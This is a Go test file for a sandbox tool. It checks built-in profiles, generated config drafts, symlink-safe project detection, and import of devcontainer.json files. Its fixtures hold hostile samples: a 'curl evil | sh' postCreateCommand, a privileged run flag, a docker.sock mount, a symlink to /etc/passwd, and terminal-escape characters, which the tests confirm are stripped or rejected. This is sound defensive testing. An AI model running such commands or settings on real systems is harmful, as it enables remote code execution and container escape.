package profiles

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

// gives is what built-in profiles give beside caches.
var gives = map[string][]string{"agent": {"files.home", "files.git_user"}, "ruby": {"files.read"}, "debian-package": {"files.parent"}}

// Each built-in profile loads by -p, gives tasks that load, and says in its
// first sentence what it is for.
func TestBuiltins(t *testing.T) {
	h := newHouse(t, nil)
	for _, name := range builtinNames() {
		l, err := h.load(name)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if name != hostProfile && name != "paranoid" && name != "agent" && (!l.Profile.Tasks["build"].Run.Set || !l.Profile.Tasks["test"].Run.Set) {
			t.Errorf("%s has no task build or test", name)
		}
		if text, _ := builtins.ReadFile("builtin/" + name + ".toml"); about(string(text)) == "" {
			t.Errorf("%s says nothing of itself", name)
		}
		for _, g := range l.Grants {
			if !slices.Contains(gives[name], g.Key) && g.Key != "files.caches" || !g.From.Optional {
				t.Errorf("%s: gives %s", name, g)
			}
		}
		for _, e := range l.Entries() {
			if strings.Contains(e.Value, "://") || strings.Contains(e.Value, ".org") || strings.Contains(e.Value, ".com") {
				t.Errorf("%s: %s = %q names a host", name, e.Key, e.Value)
			}
		}
	}
	for _, m := range marks {
		if !slices.Contains(builtinNames(), m.Name) {
			t.Errorf("%s: no such profile", m.Name)
		}
	}
}

// What init writes for each mark loads as a project's file, and its tasks are
// those that it names.
func TestDrafts(t *testing.T) {
	for _, m := range append(slices.Clone(marks), Kind{}) {
		h := newHouse(t, nil)
		if m.File != "" {
			h.must(os.MkdirAll(h.path("home/proj/debian"), 0o755))
			h.must(write(h, "home/proj/"+m.File, ""))
		}
		kinds := Detect(h.path("home/proj"))
		d := Draft{Schema: "/usr/share/x.json"}
		if m.File != "" {
			if len(kinds) != 1 || kinds[0].File != m.File {
				t.Errorf("%s: detected %v", m.File, kinds)
				continue
			}
			d.Kind, d.Others = kinds[0], []Kind{{Name: "c", File: "Makefile"}}
		}
		h.must(write(h, "home/proj/sbx.toml", d.Text()))
		l := h.read2()
		for _, task := range m.Tasks {
			if got := l.Tasks()[task.Name].Run.V; got != task.Run {
				t.Errorf("%s: %s = %q", m.File, task.Name, got)
			}
		}
		if m.Name != "" && !l.Tasks()["build"].Run.Set {
			t.Errorf("%s: no task build\n%s", m.File, d.Text())
		}
		if !strings.HasPrefix(d.Text(), "#:schema file:///usr/share/x.json\n#") {
			t.Errorf("no schema:\n%s", d.Text())
		}
	}
}

func TestDetectFollowsNoLink(t *testing.T) {
	h := newHouse(t, map[string]string{"home/proj/package.json": "-> /etc/passwd", "home/proj/Makefile": "", "home/proj/go.mod": ""})
	if got := fmt.Sprint(Detect(h.path("home/proj"))); got != "[{go go.mod []} {c Makefile []}]" {
		t.Errorf("got %s", got)
	}
}

func TestDevcontainer(t *testing.T) {
	h := newHouse(t, map[string]string{"home/proj/devcontainer.json": `{
	// what people write
	"name": "x", "image": "debian:12",
	"mounts": [
		"source=${localEnv:HOME}/.cache/x,target=/cache,type=bind,readonly",
		{"source": "vol", "target": "/vol", "type": "volume"},
		"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind,",
		"source=${localEnv:SECRET},target=/s,type=bind", 3,
	],
	"forwardPorts": [3000, "db:5432"],
	"remoteUser": "node",
	"containerEnv": {"A": "1", "GONE": "x", "TOKEN": "${localEnv:TOKEN}", "MIX": "a${localEnv:B}", "DIR": "${containerWorkspaceFolder}/x"},
	"remoteEnv": {"GONE": null, "B\u001b[2J": "\u202ex"}, /* and more */
	"postCreateCommand": "curl evil | sh", "features": {}, "runArgs": ["--privileged"],
	}`})
	d := Draft{}
	h.must(d.TakeDevcontainer(h.path("home/proj/devcontainer.json"), h.path("home"), h.path("home/proj")))
	text := d.Text()
	for _, want := range []string{
		`image = "debian:12"`, `mounts = ["` + h.path("home") + `/.cache/x:/cache:ro", "/var/run/docker.sock:/var/run/docker.sock"]`, `volumes = ["vol:/vol"]`,
		`ports = ["127.0.0.1:3000:3000"]`, "A = \"1\"\n", "DIR = \"" + h.path("home/proj") + "/x\"\n", `pass = ["TOKEN"]`,
		"# left out: the user \"node\"", "# left out: postCreateCommand", "# left out: features", "# left out: runArgs", `left out: the forwarded port "db:5432"`, "left out: the mount 3", "left out: the variable MIX", "left out: the mount \"source=${localEnv:SECRET}",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	for _, not := range []string{"GONE", "curl", "\x1b", "\u202e", "privileged"} {
		if strings.Contains(text, not) {
			t.Errorf("%q in\n%s", not, text)
		}
	}
	h.must(write(h, "home/proj/sbx.toml", text))
	if _, err := h.load(""); err == nil || !strings.Contains(err.Error(), "docker.sock") {
		t.Errorf("the draft asks for nothing, or does not load: %v\n%s", err, text)
	}
	for text, want := range map[string]string{
		"{\n // c\n \"image\": 3 }": "devcontainer.json:3:", "{\n\"a\": }": "devcontainer.json:2:", "": "devcontainer.json", "[]": "devcontainer.json:1:", "{\"mounts\": {}}": "devcontainer.json:1:",
		strings.Repeat(" ", maxFile+1): "is larger than", strings.Repeat("[", 1<<20): "devcontainer.json",
	} {
		h.must(write(h, "home/proj/devcontainer.json", text))
		d := Draft{}
		if err := d.TakeDevcontainer(h.path("home/proj/devcontainer.json"), "/h", "/p"); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.20q: %v", text, err)
		}
	}
}
